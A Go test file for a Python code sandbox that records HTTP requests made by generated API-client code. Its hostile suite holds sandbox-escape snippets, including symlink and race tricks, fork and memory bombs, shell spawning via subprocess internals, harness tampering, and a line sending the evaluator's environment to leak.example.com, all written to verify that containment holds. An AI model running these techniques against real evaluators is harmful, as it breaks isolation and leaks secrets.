package sandbox

import (
	"context"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

func newTestRunner(t *testing.T, l Limits, warm bool) *Runner {
	t.Helper()
	r, err := New(context.Background(), Options{Limits: l, ScratchDir: t.TempDir(), Exec: !warm})
	if err != nil {
		t.Skipf("no python sandbox here: %v", err)
	}
	t.Cleanup(func() { r.Close() })
	return r
}

const goodCode = `import requests
def get_weather(city, api_key):
    try:
        r = requests.get("https://weather.p.rapidapi.com/forecast/" + city,
                         headers={"X-RapidAPI-Key": api_key}, params={"units": "metric"})
        r.raise_for_status()
        return r.json()["list"][0]
    except requests.exceptions.RequestException:
        return None
`

func TestRunRecordsRequests(t *testing.T) {
	for _, warm := range []bool{false, true} {
		t.Run(mode(warm), func(t *testing.T) { testRunRecordsRequests(t, warm) })
	}
}

func mode(warm bool) string {
	if warm {
		return "fork-server"
	}
	return "exec"
}

func testRunRecordsRequests(t *testing.T, warm bool) {
	r := newTestRunner(t, Limits{Timeout: 5 * time.Second}, warm)
	tests := []struct {
		name, code, fn string
		wantMethod     string
		wantURL        string
		wantStatus     Status
	}{
		{"requests get", goodCode, "get_weather", "GET", "https://weather.p.rapidapi.com/forecast/London", StatusOK},
		{"requests session post", "import requests\nclass C:\n    def __init__(self, key):\n        self.s = requests.Session()\n        self.s.headers.update({'x': key})\n    def send(self, text):\n        return self.s.post('https://t.p.rapidapi.com/translate', json={'q': text}).json()\n", "send", "POST", "https://t.p.rapidapi.com/translate", StatusOK},
		{"httpx async", "import httpx, asyncio\nasync def go(q):\n    async with httpx.AsyncClient(base_url='https://h.p.rapidapi.com') as c:\n        r = await c.get('/search', params={'q': q})\n        return r.json()\n", "go", "GET", "https://h.p.rapidapi.com/search", StatusOK},
		{"aiohttp", "import aiohttp\nasync def go(q):\n    async with aiohttp.ClientSession() as s:\n        async with s.post('https://a.p.rapidapi.com/v1/x', data={'q': q}) as resp:\n            return await resp.json()\n", "go", "POST", "https://a.p.rapidapi.com/v1/x", StatusOK},
		{"urllib", "import urllib.request, json\ndef f():\n    req = urllib.request.Request('https://u.p.rapidapi.com/p?x=1', headers={'a': 'b'})\n    with urllib.request.urlopen(req) as r:\n        return json.loads(r.read())\n", "f", "GET", "https://u.p.rapidapi.com/p?x=1", StatusOK},
		{"http.client", "import http.client\nconn = http.client.HTTPSConnection('c.p.rapidapi.com')\nconn.request('GET', '/v2/list?a=1', headers={'h': 'v'})\nres = conn.getresponse()\ndata = res.read()\n", "", "GET", "https://c.p.rapidapi.com/v2/list?a=1", StatusOK},
		{"stubbed imports and undefined names", "import pandas as pd\nfrom django.conf import settings\nfrom .models import Thing\nimport requests\ndef f(symbol):\n    logger.info('x')\n    url = settings.BASE + 'x'\n    r = requests.get('https://s.p.rapidapi.com/quote', params={'symbol': symbol, 'k': CONFIG['k']})\n    return pd.DataFrame(r.json())\n", "f", "GET", "https://s.p.rapidapi.com/quote", StatusOK},
		{"decorated with functools.wraps", "import functools, requests\ndef retry(f):\n    @functools.wraps(f)\n    def w(*a, **k):\n        return f(*a, **k)\n    return w\n@retry\ndef f(city, units='metric'):\n    return requests.get('https://d.p.rapidapi.com/w/' + city.lower(), params={'u': units})\n", "f", "GET", "https://d.p.rapidapi.com/w/london", StatusOK},
		{"environment lookups", "import os, requests\nKEY = os.environ['RAPIDAPI_KEY']\ndef f():\n    k = os.getenv('RAPIDAPI_KEY')\n    if not k:\n        raise ValueError('no key')\n    return requests.get('https://e.p.rapidapi.com/e', headers={'X-RapidAPI-Key': KEY})\n", "f", "GET", "https://e.p.rapidapi.com/e", StatusOK},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res, err := r.Run(context.Background(), tt.code, tt.fn)
			if err != nil {
				t.Fatal(err)
			}
			if res.Status != tt.wantStatus {
				t.Errorf("status = %s (%s), want %s; stderr %s", res.Status, res.Reason, tt.wantStatus, res.Stderr)
			}
			if len(res.Requests) == 0 {
				t.Fatalf("no request captured (%s %s)", res.Status, res.Reason)
			}
			q := res.Requests[0]
			if q.Method != tt.wantMethod || q.URL != tt.wantURL {
				t.Errorf("request = %s %s, want %s %s", q.Method, q.URL, tt.wantMethod, tt.wantURL)
			}
		})
	}
}

func TestRunSyntaxError(t *testing.T) {
	r := newTestRunner(t, Limits{}, false)
	res, err := r.Run(context.Background(), "def f(:\n  pass", "f")
	if err != nil {
		t.Fatal(err)
	}
	if res.Facts.Syntax || res.Status != StatusError {
		t.Errorf("got syntax=%v status=%s, want a syntax error", res.Facts.Syntax, res.Status)
	}
}

// TestHostileSuite runs hostile completions side by side with a good one: the
// evaluator survives, the good one still scores, and nothing outside the scratch
// directory changes.
func TestHostileSuite(t *testing.T) {
	if testing.Short() {
		t.Skip("hostile suite takes a few seconds")
	}
	// Slow: each mode waits out an infinite loop's wall-clock limit (twice when
	// batched: the batch, then the loop alone), 25 s in all under the race detector.
	// The modes have runners of their own and run in parallel (two at a time,
	// -test.parallel), the environment set here for all of them.
	t.Setenv("SCCG_TEST_SECRET", "s3cr3t-value-from-evaluator")
	for _, m := range []struct {
		name     string
		warm, nb bool
	}{{"exec", false, true}, {"fork-server/unbatched", true, true}, {"fork-server/batched", true, false}} {
		t.Run(m.name, func(t *testing.T) {
			t.Parallel()
			testHostileSuite(t, m.warm, m.nb)
		})
	}
}

// testHostileSuite runs the suite in one mode; the caller sets SCCG_TEST_SECRET.
func testHostileSuite(t *testing.T, warm, noBatch bool) {
	outside := t.TempDir()
	sentinel := filepath.Join(outside, "sentinel.txt")
	if err := os.WriteFile(sentinel, []byte("untouched"), 0o644); err != nil {
		t.Fatal(err)
	}
	keep := filepath.Join(outside, "keep.txt")
	if err := os.WriteFile(keep, []byte("untouched"), 0o644); err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	var mu sync.Mutex
	connected := 0
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			mu.Lock()
			connected++
			mu.Unlock()
			c.Close()
		}
	}()
	port := ln.Addr().(*net.TCPAddr).Port

	// The timeout is generous and at most four cases run at once, so a busy machine
	// does not turn slow starts into timeouts.
	r, err := New(context.Background(), Options{Limits: Limits{Timeout: 6 * time.Second, MemoryMB: 256},
		ScratchDir: t.TempDir(), Exec: !warm, NoBatch: noBatch})
	if err != nil {
		t.Skipf("no python sandbox here: %v", err)
	}
	defer r.Close()
	sem := make(chan struct{}, 4)
	req := "\nimport requests\nrequests.get('https://ok.p.rapidapi.com/after')\n"
	shm := fmt.Sprintf("/sccg-hostile-%d-%s", os.Getpid(), strings.ReplaceAll(t.Name(), "/", "-")) // one per mode
	t.Cleanup(func() {
		if err := os.Remove("/dev/shm" + shm); err == nil {
			t.Errorf("a run created /dev/shm%s", shm)
		}
	})
	// marked: the code reaches a marker request only when its hostile part worked.
	marked := func(host string) func(*testing.T, Result) {
		return func(t *testing.T, res Result) {
			for _, q := range res.Requests {
				if strings.Contains(q.URL, host) {
					t.Errorf("the hostile part went through: %s", q.URL)
				}
			}
		}
	}
	tests := []struct {
		name        string
		code        string
		want        []Status
		wantRequest bool // the request after the hostile part is still captured
		check       func(*testing.T, Result)
	}{
		{"infinite loop", "while True:\n    pass\n", []Status{StatusTimeout}, false, nil},
		{"fork bomb", "import os\nwhile True:\n    os.fork()\n" + req, []Status{StatusError}, true, nil},
		{"subprocess", "import subprocess\nsubprocess.run(['sh', '-c', 'echo pwned > " + sentinel + "'])\n" + req, []Status{StatusError}, true, nil},
		{"memory bomb", "x = bytearray(1 << 40)\n", []Status{StatusOOM}, false, nil},
		{"memory bomb in steps", "x = []\nfor _ in range(1000):\n    x.append(bytearray(1 << 30))\n", []Status{StatusOOM}, false, nil},
		{"write outside scratch", "open(" + fmt.Sprintf("%q", sentinel) + ", 'w').write('pwned')\n" + req, []Status{StatusError}, true, nil},
		{"symlink out of scratch", "import os\nos.symlink(" + fmt.Sprintf("%q", sentinel) + ", 'link')\nopen('link', 'w').write('pwned')\n" + req, []Status{StatusError}, true, nil},
		// a link to the scratch directory itself passes a lexical check, and so does
		// a path through it that climbs with "..": the kernel climbs from where the
		// link points, the check from where it is
		{"symlink to scratch, then up", "import os\ncwd = os.getcwd()\nn = cwd.count('/')\nnest = '/'.join(['d'] * n)\n" +
			"os.makedirs(nest)\nos.symlink(cwd, nest + '/me')\nopen(nest + '/me' + '/..' * n + " + fmt.Sprintf("%q", sentinel) +
			", 'w').write('pwned')\n" + req, []Status{StatusError}, true, nil},
		// the guard resolves a relative path against the working directory as it is
		// when the hook runs; another thread may have changed it by the time the
		// file is opened
		{"change directory by a descriptor", "import os\nfd = os.open(" + fmt.Sprintf("%q", outside) + ", os.O_RDONLY)\nos.chdir(fd)\nopen('sentinel.txt', 'w').write('pwned')\n" + req, []Status{StatusError}, true, nil},
		{"change directory to its own (a script's habit)", "import os\nos.chdir(os.path.dirname(os.path.abspath(__file__)))\nos.chdir('.')\n" + req, []Status{StatusOK}, true, nil},
		{"write beside while another thread changes directory", "import os, threading, time\nhere = os.getcwd()\nstop = []\n" +
			"def flip():\n    while not stop:\n        os.chdir(" + fmt.Sprintf("%q", outside) + ")\n        os.chdir(here)\n" +
			"threading.Thread(target=flip, daemon=True).start()\nend = time.time() + 3\nwhile time.time() < end:\n" +
			"    try:\n        open('sentinel.txt', 'w').write('pwned')\n        os.remove(here + '/sentinel.txt')\n" +
			"    except FileNotFoundError:\n        break  # written beside\n    except OSError:\n        pass\nstop.append(1)\n" + req,
			[]Status{StatusOK, StatusError}, true, nil},
		// the kernel resolves ".." from the directory it has reached: one moved up by
		// another thread while the kernel walks below it takes the path one level
		// higher than the hook resolved it by name
		{"write beside while another thread moves a directory", "import os, threading, time\nhere = os.getcwd()\nstop = []\n" +
			"deep = '/'.join('c%d' % i for i in range(30))\nos.makedirs('a/b/' + deep)\n" +
			"def flip():\n    while not stop:\n        try:\n            os.rename('a/b', 'b')\n            os.rename('b', 'a/b')\n" +
			"        except OSError:\n            pass\nthreading.Thread(target=flip, daemon=True).start()\n" +
			"p = 'a/b/' + deep + '/..' * 32 + '/beside.txt'\nend = time.time() + 3\nwhile time.time() < end:\n" +
			"    try:\n        open(p, 'w').close()\n    except OSError:\n        continue\n" +
			"    try:\n        os.remove(here + '/beside.txt')\n    except FileNotFoundError:\n        break  # written beside\nstop.append(1)\n" + req,
			[]Status{StatusOK, StatusError}, true, nil},
		{"relative symlink out of scratch", "import os\nos.makedirs('a/b')\nos.symlink('../../../../../../../../../../../.." + sentinel + "', 'a/b/link')\nopen('a/b/link', 'w').write('pwned')\n" + req, []Status{StatusError}, true, nil},
		{"open relative to an outside directory", "import os\nfd = os.open(" + fmt.Sprintf("%q", outside) + ", os.O_RDONLY)\nw = os.open('sentinel.txt', os.O_WRONLY | os.O_TRUNC, dir_fd=fd)\nos.write(w, b'pwned')\n" + req, []Status{StatusError}, true, nil},
		{"sqlite database outside scratch", "import sqlite3\ncon = sqlite3.connect(" + fmt.Sprintf("%q", filepath.Join(outside, "pwned.db")) + ")\ncon.execute('CREATE TABLE t (x)')\ncon.commit()\n" + req, []Status{StatusOK}, true, nil},
		{"raw _sqlite3 outside scratch", "import _sqlite3\n_sqlite3.connect(" + fmt.Sprintf("%q", filepath.Join(outside, "pwned2.db")) + ").execute('CREATE TABLE t (x)')\n" + req, []Status{StatusError}, true, nil},
		{"sqlite extension", "import sqlite3\ncon = sqlite3.connect(':memory:')\ncon.enable_load_extension(True)\n" + req, []Status{StatusError}, true, nil},
		{"remove outside scratch", "import os\nos.remove(" + fmt.Sprintf("%q", sentinel) + ")\n" + req, []Status{StatusError}, true, nil},
		{"write inside scratch", "open('notes.txt', 'w').write('fine')\n" + req, []Status{StatusOK}, true, nil},
		{"read evaluator env", "import os, requests\nv = os.environ.get('SCCG_TEST_SECRET', '')\ntry:\n    v += open('/proc/%d/environ' % os.getppid()).read()\nexcept Exception:\n    pass\nrequests.get('https://leak.example.com/' + v)\n", []Status{StatusOK, StatusError}, false, nil},
		{"kill parent", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n" + req, []Status{StatusError}, true, nil},
		{"kill group", "import os, signal\nos.killpg(0, signal.SIGKILL)\n" + req, []Status{StatusError}, true, nil},
		{"close stdout", "import os, sys\nsys.stdout.close()\nos.close(1)\nos.close(2)\n" + req, []Status{StatusOK}, true, nil},
		{"print megabytes", "import sys\nfor _ in range(50):\n    sys.stdout.write('x' * 1000000)\n" + req, []Status{StatusOK}, true, nil},
		{"sys.exit", "import sys\nsys.exit(3)\n" + req, []Status{StatusError}, true, nil},
		{"os._exit", req + "import os\nos._exit(0)\n", []Status{StatusCrash}, true, nil},
		{"ctypes", "import ctypes\nctypes.string_at(0)\n" + req, []Status{StatusError}, true, nil},
		{"raw _ctypes", "import _ctypes\nprint(_ctypes._memmove_addr)\n" + req, []Status{StatusError}, true, nil},
		{"ctypes from sys.modules", "import sys\nm = sys.modules.get('_ctypes') or sys.modules.get('ctypes')\nm._memmove_addr\n" + req, []Status{StatusError}, true, nil},
		{"segfault", req + "import faulthandler\nfaulthandler._sigsegv()\n", []Status{StatusCrash}, true, nil},
		{"threads that never end", "import threading\nfor _ in range(3):\n    threading.Thread(target=lambda: [0 for _ in iter(int, 1)]).start()\n" + req, []Status{StatusOK}, true, nil},
		{"connect to localhost", fmt.Sprintf("import socket\ns = socket.create_connection(('127.0.0.1', %d), 1)\n", port) + req, []Status{StatusError}, true, nil},
		{"forge report lines", "import os\nfor fd in range(3, 1000):\n    try:\n        os.write(fd, b'x\\treq\\t{\"method\":\"GET\",\"url\":\"https://forged/\"}\\n')\n    except OSError:\n        pass\n" + req, []Status{StatusOK}, true, nil},
		// The harness's state, reached the short way (sys.modules) and the long way
		// (a harness function's globals, which CPython does not audit).
		{"report channel from sys.modules", "import sys\nsys.modules['_sccg_harness.report']._send('req', {'lib': 'requests', 'method': 'GET', 'url': 'https://forged.example.com/sys-modules'})\n" + req, []Status{StatusError}, true, nil},
		{"facts forged through a recorder's globals", "import requests\nsend = requests.get.__globals__['_record'].__globals__['_send']\nsend('facts', {'syntax': True, 'has_try': True, 'has_status_check': True, 'imports': ['forged_import'], 'free': ['forged']})\n" + req,
			[]Status{StatusOK}, true, func(t *testing.T, res Result) {
				if res.Facts.HasTry || res.Facts.HasStatusCheck || slices.Contains(res.Facts.Imports, "forged_import") {
					t.Errorf("forged facts were taken: %+v", res.Facts)
				}
			}},
		{"guard's scratch root from sys.modules", "import sys\nsys.modules['_sccg_harness.guard']._SCR = ''\nopen(" + fmt.Sprintf("%q", sentinel) + ", 'w').write('pwned')\n" + req, []Status{StatusError}, true, nil},
		{"guard's state through a harness function's globals", "import os\ng = os.open.__globals__\ng['_SCR'] = ''\ng['_inside'] = lambda p: True\ng['_BLOCK'] = frozenset()\nopen(" + fmt.Sprintf("%q", sentinel) + ", 'w').write('pwned')\n" + req, []Status{StatusError}, true, nil},
		{"real open out of the dir_fd wrapper", "import os\nfd = os.open(" + fmt.Sprintf("%q", outside) + ", os.O_RDONLY)\nreal = os.open.__closure__[0].cell_contents if os.open.__closure__ else os.open.__kwdefaults__['_open']\nw = real('sentinel.txt', os.O_WRONLY | os.O_TRUNC, dir_fd=fd)\nos.write(w, b'pwned')\n" + req, []Status{StatusError}, true, nil},
		{"core file limit", "import resource, requests\nrequests.get('https://core.example.com/%d/%d' % resource.getrlimit(resource.RLIMIT_CORE))\n", []Status{StatusOK}, false,
			func(t *testing.T, res Result) {
				if len(res.Requests) != 1 || res.Requests[0].URL != "https://core.example.com/0/0" {
					t.Errorf("core limit: %+v, want soft and hard 0", res.Requests)
				}
			}},
		{"signal the parent through a pidfd", "import os, signal, requests\nif 1:\n    fd = os.pidfd_open(os.getppid())\n    signal.pidfd_send_signal(fd, signal.SIGCONT)\n    requests.get('https://signalled.example.com/')\n" + req, []Status{StatusError}, true, marked("signalled.example.com")},
		{"renice the parent", "import os, requests\nif 1:\n    os.setpriority(os.PRIO_PROCESS, os.getppid(), os.getpriority(os.PRIO_PROCESS, os.getppid()))\n    requests.get('https://reniced.example.com/')\n" + req, []Status{StatusError}, true, marked("reniced.example.com")},
		{"rebuild posix through _imp", "import _imp, importlib.machinery, requests\nif 1:\n    p = _imp.create_builtin(importlib.machinery.ModuleSpec('posix', None))\n    requests.get('https://rebuilt.example.com/%s' % hasattr(p, 'pidfd_open'))\n" + req, []Status{StatusError}, true, marked("rebuilt.example.com")},
		{"shared memory outside scratch", "import os, requests\nif 1:\n    import _posixshmem\n    _posixshmem.shm_open(" + fmt.Sprintf("%q", shm) + ", os.O_CREAT | os.O_RDWR, 0o600)\n    requests.get('https://shm.example.com/')\n" + req, []Status{StatusError}, true, marked("shm.example.com")},
		{"trace the harness", "import sys, requests\nif 1:\n    sys.settrace(lambda *a: None)\n    requests.get('https://traced.example.com/')\n" + req, []Status{StatusError}, true, marked("traced.example.com")},
		{"list the sandbox directory", "import os, requests\nif 1:\n    names = os.listdir('..')\n    requests.get('https://listed.example.com/%d' % len(names))\n" + req, []Status{StatusError}, true, marked("listed.example.com")},
		{"path object that answers differently the second time", "import _io\nclass P:\n    n = 0\n    def __fspath__(self):\n        P.n += 1\n        return " + fmt.Sprintf("%q", sentinel) + " if P.n == 1 else 'inside.txt'\n_io.FileIO(P(), 'w').write(b'pwned')\n" + req, []Status{StatusError}, true, nil},
		{"chmod outside through a descriptor", "import os\nfd = os.open(" + fmt.Sprintf("%q", sentinel) + ", os.O_RDONLY)\nos.chmod(fd, 0o777)\n" + req, []Status{StatusError}, true, nil},
		{"remove outside through a pathlib path", "import pathlib\npathlib.Path(" + fmt.Sprintf("%q", keep) + ").unlink()\n" + req, []Status{StatusError}, true, nil},
		{"start a process without an audit event", "import _posixsubprocess, os\nr, w = os.pipe()\n_posixsubprocess.fork_exec([b'/bin/sh', b'-c', b'echo pwned > " + sentinel + "'], [b'/bin/sh'], True, (w,), None, None, -1, -1, -1, -1, -1, -1, r, w, True, False, -1, None, None, None, -1, None, False)\n" + req, []Status{StatusError}, true, nil},
		{"start a process through subprocess's own fork_exec", "import subprocess, os\nr, w = os.pipe()\nsubprocess._fork_exec([b'/bin/sh', b'-c', b'echo pwned > " + sentinel + "'], [b'/bin/sh'], True, (w,), None, None, -1, -1, -1, -1, -1, -1, r, w, True, False, -1, None, None, None, -1, None, False)\n" + req, []Status{StatusError}, true, nil},
		{"a subinterpreter, which has no audit hook", "import _xxsubinterpreters as s\ns.run_string(s.create(), 'open(" + fmt.Sprintf("%q", sentinel) + ", \"w\").write(\"pwned\")')\n" + req, []Status{StatusError}, true, nil},
		{"bind an abstract socket", "import socket\ns = socket.socket(socket.AF_UNIX)\ns.bind('\\0sccg-hostile')\n" + req, []Status{StatusError}, true, nil},
		{"CPython's test modules", "import requests\nfor m in ('_testcapi', '_testinternalcapi', '_testbuffer', '_ctypes_test'):\n    try:\n        __import__(m)\n        requests.get('https://imported.example.com/' + m)\n    except Exception:\n        pass\n" + req, []Status{StatusError, StatusOK}, true, marked("imported.example.com")},
	}
	var wg sync.WaitGroup
	good := make(chan Result, 1)
	wg.Add(1)
	go func() {
		defer wg.Done()
		res, _ := r.Run(context.Background(), goodCode, "get_weather")
		good <- res
	}()
	results := make([]Result, len(tests))
	for i, tt := range tests {
		wg.Add(1)
		go func() {
			defer wg.Done()
			sem <- struct{}{}
			defer func() { <-sem }()
			res, err := r.Run(context.Background(), tt.code, "")
			if err != nil {
				t.Errorf("%s: evaluator error %v", tt.name, err)
			}
			results[i] = res
		}()
	}
	wg.Wait()
	for i, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := results[i]
			ok := false
			for _, s := range tt.want {
				ok = ok || res.Status == s
			}
			if !ok {
				t.Errorf("status = %s (%s), want one of %v", res.Status, res.Reason, tt.want)
			}
			found := false
			for _, q := range res.Requests {
				if strings.Contains(q.URL, "s3cr3t") {
					t.Errorf("the evaluator's environment leaked: %s", q.URL)
				}
				if strings.Contains(q.URL, "forged") {
					t.Errorf("a forged report line was accepted: %s", q.URL)
				}
				found = found || q.URL == "https://ok.p.rapidapi.com/after"
			}
			if tt.wantRequest && !found {
				t.Errorf("request after the hostile part not captured: %+v (%s %s)", res.Requests, res.Status, res.Reason)
			}
			if tt.check != nil {
				tt.check(t, res)
			}
		})
	}
	g := <-good
	if g.Status != StatusOK || len(g.Requests) != 1 || g.Requests[0].URL != "https://weather.p.rapidapi.com/forecast/London" {
		t.Errorf("good completion next to hostile ones: %s %s %+v", g.Status, g.Reason, g.Requests)
	}
	for _, f := range []string{sentinel, keep} {
		if b, err := os.ReadFile(f); err != nil || string(b) != "untouched" {
			t.Errorf("file outside scratch changed: %s %q, %v", f, b, err)
		}
		if st, err := os.Stat(f); err != nil || st.Mode().Perm() != 0o644 {
			t.Errorf("mode of a file outside scratch changed: %s %v", f, st.Mode())
		}
	}
	if entries, err := os.ReadDir(outside); err != nil || len(entries) != 2 {
		t.Errorf("files appeared outside scratch: %v %v", entries, err)
	}
	entries, _ := os.ReadDir(r.dir)
	for _, e := range entries {
		if e.Name() == "beside.txt" {
			t.Errorf("a run wrote beside its scratch directory: %s", e.Name())
		}
		if strings.HasPrefix(e.Name(), "run-") {
			t.Errorf("scratch directory %s left behind", e.Name())
		}
	}
	for _, d := range r.scratchDirs() { // a fork server's, emptied after each job
		left, _ := os.ReadDir(d)
		for _, e := range left {
			if e.Name() != "input.txt" {
				t.Errorf("%s left in fork server scratch directory %s", e.Name(), d)
			}
		}
	}
	mu.Lock()
	defer mu.Unlock()
	if connected != 0 {
		t.Errorf("%d connections reached 127.0.0.1", connected)
	}
}

// TestForkServerRestarts: a fork server that died is replaced, and the run that
// found it dead still runs.
func TestForkServerRestarts(t *testing.T) {
	r := newTestRunner(t, Limits{}, true)
	ctx := context.Background()
	if res, err := r.Run(ctx, goodCode, "get_weather"); err != nil || len(res.Requests) != 1 {
		t.Fatalf("first run: %+v %v", res, err)
	}
	r.pool.mu.Lock()
	for z := range r.pool.all {
		z.cmd.Process.Kill()
		<-z.done
	}
	r.pool.mu.Unlock()
	res, err := r.Run(ctx, goodCode, "get_weather")
	if err != nil || res.Status != StatusOK || len(res.Requests) != 1 {
		t.Fatalf("run after the fork server died: %+v %v", res, err)
	}
}

// TestPagingEnds: a loop that pages until an empty page ends after a few requests
// and the code after it runs.
func TestPagingEnds(t *testing.T) {
	r := newTestRunner(t, Limits{Timeout: 30 * time.Second}, false)
	code := `import requests
def sync_all():
    page, items = 1, []
    while True:
        data = requests.get("https://p.p.rapidapi.com/v1/items", params={"page": page}).json()
        if not data["results"]:
            break
        items += data["results"]
        page += 1
    return requests.post("https://p.p.rapidapi.com/v1/summary", json={"n": len(items)}).json()
`
	res, err := r.Run(context.Background(), code, "sync_all")
	if err != nil {
		t.Fatal(err)
	}
	n := len(res.Requests)
	if res.Status != StatusOK || n < 2 || n > 10 || res.Requests[n-1].URL != "https://p.p.rapidapi.com/v1/summary" {
		t.Errorf("status %s %s, %d requests, last %+v", res.Status, res.Reason, n, res.Requests[n-1])
	}
}

// TestRunRobustness: gold code that depends on what its framework would supply
// (keyword arguments, request objects, application start-up, input files, a local
// database) still reaches its request, in both modes.
func TestRunRobustness(t *testing.T) {
	for _, warm := range []bool{false, true} {
		t.Run(mode(warm), func(t *testing.T) { testRunRobustness(t, warm) })
	}
}

func testRunRobustness(t *testing.T, warm bool) {
	r := newTestRunner(t, Limits{Timeout: 10 * time.Second}, warm)
	tests := []struct {
		name, code, fn string
		wantLast       string // the URL of the last captured request
		wantN          int    // how many requests; 0: any
	}{
		{"**context keys", "import requests\ndef fetch(season, **context):\n    return requests.get('https://f.p.rapidapi.com/fixtures', params={'season': season, 'date': context['ds'] + 'T00'})\n",
			"fetch", "https://f.p.rapidapi.com/fixtures", 1},
		{"**opts in a method", "import requests\nclass Command:\n    def handle(self, *args, **opts):\n        for i in range(opts['limit']):\n            requests.post('https://s.p.rapidapi.com/sentiment', json={'n': opts.get('lang').upper()})\n",
			"handle", "https://s.p.rapidapi.com/sentiment", 1},
		{"stub .get with a str default", "import urllib.parse, urllib.request\nfrom flask import request\ndef index():\n    q = request.args.get('q', '')\n    lang = request.args.get('lang', default='en')\n    if q:\n        return urllib.request.urlopen('https://m.p.rapidapi.com/search/' + urllib.parse.quote(q) + '/' + lang)\n",
			"index", "https://m.p.rapidapi.com/search/test/en", 1},
		{"stub in a JSON body", "import json, requests\nfrom flask import request\ndef detect():\n    text = request.get_json(force=True)['text']\n    return requests.post('https://t.p.rapidapi.com/detect', data=json.dumps({'text': text}))\n",
			"detect", "https://t.p.rapidapi.com/detect", 1},
		{"response .get with a default stays permissive", "import requests\ndef f():\n    d = requests.get('https://a.p.rapidapi.com/status').json()\n    if d.get('ok', False) and d.get('count', 0) == 3:\n        requests.get('https://a.p.rapidapi.com/next')\n",
			"f", "https://a.p.rapidapi.com/next", 2},
		{"empty page .get returns the default", "import requests\ndef f():\n    while True:\n        d = requests.get('https://p.p.rapidapi.com/items').json()\n        if not d.get('next', ''):\n            break\n    requests.get('https://p.p.rapidapi.com/done')\n",
			"f", "https://p.p.rapidapi.com/done", 0},
		{"FastAPI lifespan fills the clients", "from contextlib import asynccontextmanager\nimport httpx\nfrom fastapi import FastAPI\nclients = {}\n@asynccontextmanager\nasync def lifespan(app: FastAPI):\n    clients['w'] = httpx.AsyncClient(base_url='https://w.p.rapidapi.com')\n    yield\n    await clients['w'].aclose()\napp = FastAPI(lifespan=lifespan)\n@app.get('/now/{city}')\nasync def now(city: str):\n    r = await clients['w'].get(f'/forecast/{city}')\n    return r.json()\n",
			"now", "https://w.p.rapidapi.com/forecast/London", 1},
		{"startup handler fills the clients", "import httpx\nfrom fastapi import FastAPI\napp = FastAPI()\nstate = {}\n@app.on_event('startup')\nasync def start():\n    state['c'] = httpx.AsyncClient(base_url='https://st.p.rapidapi.com')\n@app.get('/x')\nasync def x(q: str):\n    return (await state['c'].get('/v1/x', params={'q': q})).json()\n",
			"x", "https://st.p.rapidapi.com/v1/x", 1},
		{"numeric ids", "import requests\ndef get_game(game_id):\n    return requests.get('https://b.p.rapidapi.com/games/{}'.format(game_id)).json()\ndef games_range(first_id, last_id):\n    return [get_game(g) for g in range(first_id, last_id + 1)]\n",
			"games_range", "https://b.p.rapidapi.com/games/1", 1},
		{"input file with the columns the code reads", "import csv, requests\ndef score(text):\n    return requests.post('https://s.p.rapidapi.com/sentiment', json={'text': text}).json()['score']\ndef average(path):\n    with open(path, newline='') as fh:\n        scores = [score(row['review']) for row in csv.DictReader(fh)]\n    return sum(scores) / len(scores)\n",
			"average", "https://s.p.rapidapi.com/sentiment", 1},
		{"database outside the scratch directory", "import sqlite3, requests\nDB = '/home/someone/data/readings.db'\ndef main():\n    con = sqlite3.connect(DB)\n    con.execute('INSERT INTO r VALUES (1)')\n    requests.get('https://o.p.rapidapi.com/point/hourly')\n    con.commit()\n",
			"main", "https://o.p.rapidapi.com/point/hourly", 1},
		{"database inside the scratch directory is real", "import sqlite3, requests\ndef main():\n    con = sqlite3.connect('local.db')\n    con.execute('CREATE TABLE r (x)')\n    n = con.execute('SELECT count(*) FROM r').fetchone()[0]\n    requests.get('https://o.p.rapidapi.com/count/%d' % n)\n",
			"main", "https://o.p.rapidapi.com/count/0", 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res, err := r.Run(context.Background(), tt.code, tt.fn)
			if err != nil {
				t.Fatal(err)
			}
			n := len(res.Requests)
			if n == 0 || res.Requests[n-1].URL != tt.wantLast || (tt.wantN > 0 && n != tt.wantN) {
				t.Errorf("%s %s: requests %+v; want %d ending with %s; stderr %s", res.Status, res.Reason, res.Requests, tt.wantN, tt.wantLast, res.Stderr)
			}
			if res.Status != StatusOK {
				t.Errorf("status %s (%s), want ok", res.Status, res.Reason)
			}
		})
	}
}

// TestCPULimitIsATimeout runs a busy loop whose CPU-time limit comes long before
// its wall-clock one: it ends as a timeout at the CPU limit, not as a run killed
// by SIGKILL, in a child of its own and (run again there) after a batch.
func TestCPULimitIsATimeout(t *testing.T) {
	if testing.Short() {
		t.Skip("burns a second of CPU per mode")
	}
	for _, noBatch := range []bool{true, false} {
		r, err := New(context.Background(), Options{Limits: Limits{Timeout: 30 * time.Second, CPUSeconds: 1},
			ScratchDir: t.TempDir(), NoBatch: noBatch})
		if err != nil {
			t.Skipf("no python sandbox here: %v", err)
		}
		res, err := r.Run(context.Background(), "while True:\n    pass\n", "")
		r.Close()
		if err != nil {
			t.Fatal(err)
		}
		if res.Status != StatusTimeout || res.Reason != "CPU-time limit" {
			t.Errorf("batching %v: %s (%s), want timeout (CPU-time limit)", !noBatch, res.Status, res.Reason)
		}
	}
}
